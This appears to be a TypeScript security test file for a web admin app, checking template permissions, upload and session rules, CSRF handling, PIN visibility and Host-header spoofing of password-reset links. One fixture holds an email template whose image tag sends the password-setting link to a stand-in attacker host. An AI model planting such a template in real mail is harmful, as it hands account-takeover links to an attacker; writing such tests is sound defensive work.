import { once } from 'node:events';
import { type IncomingMessage, request } from 'node:http';
import type { AddressInfo } from 'node:net';
import t from 'tap';
import { IDLE_MS } from '../../../src/services/sign-in.js';
import { PASSWORD, startAdmin } from '../../fixtures/admin.js';
import { eventually, HOUR, SITE } from '../../fixtures/runtime.js';

const HOST = { host: 'localhost' };

t.test('what a hostile admin, page or stranger must not get', async (t) => {
  const { app, runtime, as } = await startAdmin(t);
  const [admin, owner] = [await as('admin'), await as('owner')];

  await t.test('an admin puts no words around the link by which owners set their password', async (t) => {
    const stolen = {
      version: '0',
      subject: 'Hello',
      html: '<img src="https://evil.example/?{link}">',
      text: '{link}',
    };
    const refused = await admin.post('/templates/team-link/en', stolen);
    t.equal(refused.status, 403);
    t.match(refused.html, /role owner/);
    t.equal((await runtime.services.mail.templates.read(SITE, 'team-link', 'en')).custom, false);
    t.equal((await admin.post('/templates/team-link/en/reset', { version: '0' })).status, 403);
    const { html, ...others } = stolen;
    t.equal((await admin.post('/templates/host-link/en', { ...others, html: '{link}' })).status, 303);
    t.equal((await owner.post('/templates/team-link/en', { ...others, html: '{link}' })).status, 303);

    const key = await runtime.services.team.addKey({ name: 'admin', role: 'admin', site: SITE }, 'test');
    if (key.status !== 'added') throw new Error(key.status);
    for (const method of ['PUT', 'DELETE'] as const) {
      const answer = await app.inject({
        method,
        url: '/api/v1/templates/team-link/en',
        headers: { ...HOST, authorization: `Bearer ${key.secret}`, 'if-match': '"1"' },
        ...(method === 'PUT' ? { payload: { subject: 'x', html, text: '{link}' } } : {}),
      });
      t.equal(answer.statusCode, 403, method);
    }
  });

  await t.test('nobody sends a file before signing in', async (t) => {
    const edge = 'xxxxxxxx';
    const part = (name: string, text: string) =>
      `--${edge}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${text}\r\n`;
    const send = (url: string, cookie: string) =>
      app.inject({
        method: 'POST',
        url,
        headers: { ...HOST, cookie, 'content-type': `multipart/form-data; boundary=${edge}` },
        payload: `${part('email', 'a@example.com')}${part('password', 'x')}--${edge}--\r\n`,
      });
    for (const url of ['/login', '/login/code', '/login/forgot', '/join', '/setup'])
      t.equal((await send(url, '')).statusCode, 415, url);
    t.equal((await send('/visits/import', admin.cookie)).statusCode, 403, 'read, and without a token');
  });

  await t.test('a page that asks by itself keeps no login alive', async (t) => {
    const left = await as('desk');
    for (let at = HOUR; at < IDLE_MS; at += HOUR) {
      runtime.time.advance(HOUR);
      t.equal((await left.get('/sessions', { 'x-foyer-live': '1' })).status, 200);
    }
    runtime.time.advance(HOUR);
    t.equal((await left.get('/sessions', { 'x-foyer-live': '1' })).location, '/login?next=%2Fsessions');

    const streaming = await as('desk');
    for (let i = 0; i < 5; i++) {
      const stream = new AbortController();
      const asked = app.inject({
        url: '/sessions/stream',
        headers: { ...HOST, cookie: streaming.cookie },
        signal: stream.signal,
        payloadAsStream: true,
      });
      runtime.time.advance(IDLE_MS / 4);
      const status = (await asked.catch(() => undefined))?.statusCode;
      stream.abort();
      if (status === 303) return t.pass('a stream that begins again and again neither');
    }
    t.fail('the stream goes on');
  });

  await t.test('a token with other letters is refused, not a fault', async (t) => {
    const desk = await as('desk');
    const token = /name="_csrf" value="([^"]+)"/.exec((await desk.get('/')).html)?.[1] ?? '';
    const answer = await app.inject({
      method: 'POST',
      url: '/logout',
      headers: { ...HOST, cookie: desk.cookie, 'content-type': 'application/x-www-form-urlencoded' },
      payload: new URLSearchParams({ _csrf: 'é'.repeat(token.length) }).toString(),
    });
    t.equal(answer.statusCode, 403);
    t.equal((await desk.get(`/visits/x?shown=${runtime.now()}.${'é'.repeat(43)}`)).status, 404);
  });

  await t.test(
    'the first visit shows its PIN to whoever registered it, and looking changes nothing',
    async (t) => {
      const [boss, another] = [await as('admin'), await as('admin')];
      const made = await boss.post('/wizard/visit', { name: 'Ada Lovelace' });
      const id = /visit=([\w-]+)/.exec(made.location)?.[1] ?? '';
      const mark = await runtime.stores.events.mark(SITE);
      t.match((await boss.get(made.location)).html, /id="pin"><span>\d/);
      t.notMatch((await another.get(made.location)).html, /id="pin"/, 'not to another login');
      t.notMatch((await boss.get(`/wizard/visit?visit=${id}`)).html, /id="pin"/);
      t.equal(
        await runtime.stores.events.mark(SITE),
        mark,
        'or the page that is told of it would look again',
      );
    },
  );
});

t.test('a stranger does not choose where the link of a mail leads', async (t) => {
  const { app, runtime } = await startAdmin(t, { env: { SMTP_URL: 'smtp://127.0.0.1:9' } });
  const { mail, team } = runtime.services;
  await team.addPerson('olga@example.com', 'owner', PASSWORD, 'test');
  await app.listen({ port: 0, host: '127.0.0.1' });
  const { port } = app.server.address() as AddressInfo;
  const asked = request({
    port,
    host: '127.0.0.1',
    method: 'POST',
    path: '/login/forgot',
    headers: { host: 'localhost:6666', 'content-type': 'application/x-www-form-urlencoded' },
  });
  asked.end('email=olga%40example.com');
  const [answer] = (await once(asked, 'response')) as [IncomingMessage];
  answer.resume();
  t.equal(answer.statusCode, 200);
  const queued = await eventually(async () => (await mail.outbox(SITE, { limit: 1 })).items[0]);
  const shown = await mail.show(SITE, queued.id, 'test');
  t.match(shown?.text, new RegExp(`http://localhost:${port}/join`));
});
